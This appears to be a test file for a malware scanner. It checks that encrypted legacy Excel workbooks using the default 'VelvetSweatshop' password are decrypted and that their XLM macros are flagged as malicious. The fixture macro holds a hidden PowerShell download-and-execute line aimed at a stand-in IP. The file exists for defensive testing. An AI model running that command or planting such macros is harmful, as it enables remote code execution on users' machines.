// Workbooks of 97–2003 that open by a password which is known are read as if they were not encrypted.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { findRunnable } from '../../../src/emulate/find-runnable.ts'
import { bufferOf } from '../../../src/file/bytes.ts'
import { openWorkbook } from '../../../src/file/formats/office/workbook-cipher.ts'
import { openCompoundFile } from '../../../src/file/formats/ole/compound-file.ts'
import { analyzeFile } from '../../../src/index.ts'
import { call, inSheet, text, writeXls } from '../../emulate/write-xlm.ts'
import { writeCompoundFile } from '../traits/write-compound-file.ts'
import { byCryptoApi, byRc4, byXor, encryptWorkbook } from './encrypt-workbook.ts'

const now = new Date('2026-01-01T00:00:00Z')
const BUILT_IN = 'VelvetSweatshop'
/** SheetJS computes the same for Excel's own password. */
const XOR = { key: 0xb359, check: 0x9a0a, bytes: '876b9ae21ee305621e699660986e9404' }

const rows = Array.from({ length: 200 }, (_, row): [number, number, string] => [row, 3, `Row ${row} of the plan`])
const whole = writeXls(
  [
    { name: 'Sheet1', isMacro: false, cells: rows },
    {
      name: 'Macro1',
      isMacro: true,
      cells: [[0, 0, [text('powershell -w hidden -c iwr http://192.0.2.7/a | iex'), call(110, 1)]]],
    },
  ],
  [[1, inSheet(1, 0, 0)]],
)
const { value: file } = openCompoundFile(whole)
const plain = file.read(file.find('Workbook') ?? assert.fail())

const WAYS = {
  XOR: byXor(XOR),
  RC4: byRc4(BUILT_IN),
  'RC4 of 128 bits': byCryptoApi(BUILT_IN, 128),
  'RC4 of 40 bits': byCryptoApi(BUILT_IN, 40),
}

for (const [name, way] of Object.entries(WAYS))
  test(`a workbook under ${name} and the password that Excel tries by itself`, async () => {
    const stream = encryptWorkbook(plain, way)
    const bytes = openWorkbook(stream, [])?.bytes ?? assert.fail()
    assert.ok(bufferOf(bytes).subarray(-5000).equals(bufferOf(plain).subarray(-5000)))
    const document = writeCompoundFile([{ name: 'Workbook', bytes: stream }], '00020820-0000-0000-c000-000000000046')
    const { root, verdict } = await analyzeFile(document, { fileName: 'a.xls', now })
    assert.equal(root.facts.office?.encryption?.passwordUsed, BUILT_IN)
    const [inside] = root.children
    assert.deepEqual(inside?.facts.office?.xlm?.functions, ['EXEC'])
    assert.equal(verdict.label, 'malicious')
    const { runnable } = await findRunnable(document, { fileName: 'a.xls', passwords: [], now })
    assert.deepEqual(
      runnable.map(({ kind }) => kind),
      ['xlm'],
    )
  })

test('under a password that nobody knows it is not clean, and under a given one it is read', async () => {
  const stream = encryptWorkbook(plain, byRc4('of nobody else'))
  const document = writeCompoundFile([{ name: 'Workbook', bytes: stream }], '00020820-0000-0000-c000-000000000046')
  const closed = await analyzeFile(document, { fileName: 'a.xls', now })
  assert.equal(closed.verdict.label, 'unknown')
  const opened = await analyzeFile(document, { fileName: 'a.xls', now, passwords: ['of nobody else'] })
  assert.equal(opened.verdict.label, 'malicious')
})

test('a record that says so and holds nothing, or stands far behind, stops no reader', async () => {
  for (const way of [
    { filePass: Buffer.alloc(0), encipher: () => undefined },
    { filePass: Buffer.from('01000100', 'hex'), encipher: () => undefined },
    { filePass: Buffer.alloc(4), encipher: () => undefined },
  ])
    assert.equal(openWorkbook(encryptWorkbook(plain, way), ['infected'])?.bytes, null)
  const late = Buffer.concat([plain.subarray(0, plain.length - 4), Buffer.from('2f000600000059b30a9a', 'hex')])
  const { bytes } = openWorkbook(late, []) ?? assert.fail()
  assert.ok(
    bufferOf(bytes ?? assert.fail())
      .subarray(0, plain.length - 4)
      .equals(bufferOf(plain).subarray(0, -4)),
  )
})
